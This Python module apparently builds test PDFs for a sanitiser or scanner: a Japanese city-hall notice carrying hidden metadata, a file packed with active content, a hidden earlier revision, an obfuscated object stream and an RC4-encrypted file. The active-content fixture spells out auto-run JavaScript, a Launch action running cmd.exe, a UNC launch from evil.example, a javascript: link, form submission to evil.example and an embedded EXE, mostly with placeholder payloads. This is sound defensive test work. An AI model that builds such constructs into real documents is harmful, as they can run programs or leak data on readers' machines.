"""PDF documents, written by hand: one plain, and the ways in which one can act or hide."""
import hashlib
import zlib

from . import image


def stream(entries, data):
    packed = zlib.compress(data, 9)
    return b"<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (entries, len(packed), packed)


def write(objects, trailer=b"", before=b"", previous=None, first=1, size=0):
    """Objects as one revision; `before` are the bytes of the revisions it follows."""
    out, at = (before or b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for i, body in enumerate(objects, first):
        if body is None:
            continue
        at[i] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (i, body)
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for i, offset in at.items():
        out += b"%d 1\n%010d 00000 n \n" % (i, offset)
    previous = b"" if previous is None else b"/Prev %d" % previous
    return out + b"trailer\n<</Size %d/Root 1 0 R%s%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        max(size, first + len(objects)), trailer, previous, start)


FONTS = [
    b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    b"<</Type/Font/Subtype/Type0/BaseFont/GothicBBB-Medium/Encoding/90ms-RKSJ-H"
    b"/DescendantFonts[<</Type/Font/Subtype/CIDFontType0/BaseFont/GothicBBB-Medium"
    b"/CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 2>>"
    b"/FontDescriptor<</Type/FontDescriptor/FontName/GothicBBB-Medium/Flags 4"
    b"/FontBBox[-174 -268 1001 944]/ItalicAngle 0/Ascent 752/Descent -271/CapHeight 737/StemV 99>>"
    b"/DW 1000/W[1[278 278 355 556]231 632 500]>>]>>",
]


def japanese(text):
    return b"<" + text.encode("cp932").hex().encode() + b">"


def guide():
    """A notice of the city hall: Japanese text, a table's lines, a photograph, a seal, links."""
    text = b"q 0.9 0.95 1 rg 50 740 495 60 re f Q\nBT /J 20 Tf 60 765 Td " + japanese(
        "庁舎見学会のご案内") + b" Tj ET\n"
    for i, line in enumerate(["日時 令和8年11月3日(火曜日)午前10時", "場所 関所市役所 本庁舎1階ロビー",
                              "申込み 電話又は電子申請", "問合せ 総務課"]):
        text += b"BT /J 12 Tf 60 %d Td %s Tj ET\n" % (700 - 24 * i, japanese(line))
    text += b"0.5 w 50 600 m 545 600 l S\nBT /H 10 Tf 60 580 Td (Sekisho City Hall) Tj ET\n"
    text += b"q 200 0 0 150 60 400 cm /Photo Do Q\nq 60 0 0 60 400 440 cm /Seal Do Q\n"
    photo = image.jpeg(96, 72, image.town_hall(96, 72), image.comment(b"SECRET-JPEG-COMMENT"))
    rows = bytes(255 if (x - 24) ** 2 + (y - 24) ** 2 > 400 else 40 for y in range(48) for x in range(48))
    return write([
        b"<</Type/Catalog/Pages 2 0 R/Metadata 9 0 R/Lang(ja)>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 595 842]>>",
        b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</H 5 0 R/J 6 0 R>>"
        b"/XObject<</Photo 7 0 R/Seal 8 0 R>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[60 570 200 590]"
        b"/A<</S/URI/URI(https://www.city.sekisho.example/)>>>>]>>",
        stream(b"", text), *FONTS,
        b"<</Type/XObject/Subtype/Image/Width 96/Height 72/BitsPerComponent 8/ColorSpace/DeviceRGB"
        b"/Filter/DCTDecode/Length %d>>stream\n%s\nendstream" % (len(photo), photo),
        stream(b"/Type/XObject/Subtype/Image/Width 48/Height 48/BitsPerComponent 8/ColorSpace/DeviceGray",
               rows),
        stream(b"/Type/Metadata/Subtype/XML", "<x:xmpmeta>作成者本名</x:xmpmeta>".encode()),
        b"<</Author<feff4f5c62108005672c540d>/Producer(Secret-Writer 1.0)>>",
    ], trailer=b"/Info 10 0 R")


def active():
    """Every door a PDF has: script, start of programs, files within, dynamic forms."""
    return write([
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert('EVIL-OPEN'))>>"
        b"/AA<</WC<</S/JavaScript/JS(EVIL-CLOSE)>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript"
        b"/JS(EVIL-NAMED)>>]>>/EmbeddedFiles<</Names[(x.exe) 6 0 R]>>>>/AcroForm<</Fields[7 0 R]"
        b"/XFA[(template) 8 0 R]>>/URI<</Base(https://evil.example/)>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</H 5 0 R>>>>"
        b"/AA<</O<</S/Launch/F(EVIL.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>>>/Annots["
        b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/Launch/F(\\\\\\\\evil.example\\\\x.exe)>>>>"
        b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(javascript:EVIL\\(\\))>>>>"
        b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/GoToR/F(EVIL.pdf)/D[0/Fit]>>>>"
        b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>"
        b"<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/OP 0/JS(EVIL-SCREEN)>>>> 7 0 R]>>",
        stream(b"", b"/EVIL-MARK <</X(EVIL-PROPERTY)>> BDC BT /H 12 Tf 60 700 Td (Invoice) Tj ET EMC\n"),
        FONTS[0],
        b"<</Type/Filespec/F(EVIL.exe)/EF<</F 9 0 R>>>>",
        b"<</Type/Annot/Subtype/Widget/FT/Btn/T(EVIL-FIELD)/Rect[0 0 9 9]/A<</S/SubmitForm"
        b"/F(https://evil.example/)>>/AA<</U<</S/JavaScript/JS(EVIL-UP)>>>>>>",
        stream(b"", b"<template><script>EVIL-XFA</script></template>"),
        stream(b"/Type/EmbeddedFile", b"MZ EVIL-PROGRAM"),
    ])


def updated():
    """Two revisions: what the first says is not shown any more, but still there."""
    page = (b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
            b"/Resources<</Font<</H 5 0 R>>>>>>")
    old = write([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page,
                 stream(b"", b"BT /H 12 Tf 60 700 Td (OLD-SECRET) Tj ET"), FONTS[0]])
    previous = int(old.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    return write([stream(b"", b"BT /H 12 Tf 60 700 Td (Public) Tj ET")], before=old,
                 previous=previous, first=4, size=6)


def packed():
    """The catalogue and its script stand in an object stream, the table in another."""
    inner = [(1, b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>"),
             (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
             (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"),
             (6, b"<</S/J#61vaScript/JS(EVIL-PACKED)>>")]
    head, body = b"", b""
    for number, data in inner:
        head += b"%d %d " % (number, len(body))
        body += data + b" "
    out, at = b"%PDF-1.7\n", {}
    for number, data in ((4, stream(b"", b"0 0 99 99 re f")),
                         (5, stream(b"/Type/ObjStm/N 4/First %d" % len(head), head + body))):
        at[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, data)
    at[7] = len(out)
    table = b"\0\0\0\0"
    for number in range(1, 8):
        index = [n for n, _ in inner].index(number) if number in (1, 2, 3, 6) else None
        table += (b"\1" + at[number].to_bytes(2, "big") + b"\0" if index is None
                  else b"\2\0\5" + bytes([index]))
    out += b"7 0 obj\n%s\nendobj\n" % stream(b"/Type/XRef/Size 8/W[1 2 1]/Root 1 0 R", table)
    return out + b"startxref\n%d\n%%%%EOF\n" % at[7]


def rc4(key, data):
    s, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


PADDING = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def encrypted():
    """The oldest cipher of PDF (40 bits), with a password."""
    pad = lambda word: (word + PADDING)[:32]  # noqa: E731
    name = b"0123456789abcdef"
    owner = rc4(hashlib.md5(pad(b"owner")).digest()[:5], pad(b"himitsu"))
    key = hashlib.md5(pad(b"himitsu") + owner + b"\xfc\xff\xff\xff" + name).digest()[:5]
    encrypt = b"<</Filter/Standard/V 1/R 2/P -4/O<%s>/U<%s>>>" % (
        owner.hex().encode(), rc4(key, PADDING).hex().encode())
    return write([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                  b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>", encrypt],
                 trailer=b"/Encrypt 4 0 R/ID[<%s><%s>]" % (name.hex().encode(), name.hex().encode()))
